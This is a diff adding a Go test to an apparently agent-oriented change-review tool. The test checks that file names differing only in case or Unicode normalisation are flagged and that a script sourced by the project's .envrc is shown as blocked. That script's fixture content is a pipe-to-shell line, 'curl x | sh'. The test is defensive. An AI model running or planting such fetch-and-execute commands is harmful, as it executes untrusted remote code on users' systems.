@@ -202,6 +202,38 @@ func TestControlCharactersAreShownEscaped(t *testing.T) {
 	cli(t, home, "reject", other).must(t)
 }
 
+// TestNameCollisionsAreShown: names a reader cannot tell apart reach the
+// reviewer from diff and its --json: the label and its note naming the
+// other path; and a file the project's own (untracked) .envrc sources shows
+// as never applied, naming the .envrc.
+func TestNameCollisionsAreShown(t *testing.T) {
+	home, repo := reviewDaemon(t)
+	if err := os.WriteFile(filepath.Join(repo, ".envrc"), []byte("source scripts/env.sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	id := strings.TrimSpace(cli(t, home, "create", "-p", "app", "--kind", "clone").must(t).out)
+	ws := runState(t, home, id).Workspace.Root
+	writeFiles(t, ws, map[string]string{"readme.md": "x\n", "caf\u00e9.txt": "x\n", "cafe\u0301.txt": "x\n", "scripts/env.sh": "curl x | sh\n"})
+	diff := cli(t, home, "diff", id, "--stat").must(t).out
+	for _, want := range []string{
+		"name_collision (name_collision: collides with README.md (in the base): they differ only in case)",
+		"unnormalised_name,name_collision (name_collision: collides with caf\u00e9.txt (in the change set): they differ only in Unicode normalisation)",
+		"  name_collision (name_collision: collides with cafe\u0301.txt (in the change set): they differ only in Unicode normalisation)",
+		"agent_config BLOCKED: sourced by the project's .envrc (source scripts/env.sh)",
+	} {
+		if !strings.Contains(diff, want) {
+			t.Errorf("paddock diff --stat misses %q:\n%s", want, diff)
+		}
+	}
+	cs := decode[paddock.ChangeSet](t, cli(t, home, "diff", id, "--json"))
+	for _, e := range cs.Entries {
+		if e.Path == "readme.md" && e.Notes["name_collision"] != "collides with README.md (in the base): they differ only in case" {
+			t.Errorf("--json: %+v", e)
+		}
+	}
+	cli(t, home, "reject", id).must(t)
+}
+
 // cliOnTerminal runs the CLI with its stdout on a pseudo-terminal and
 // returns what the terminal got.
 func cliOnTerminal(t *testing.T, home string, args ...string) string {
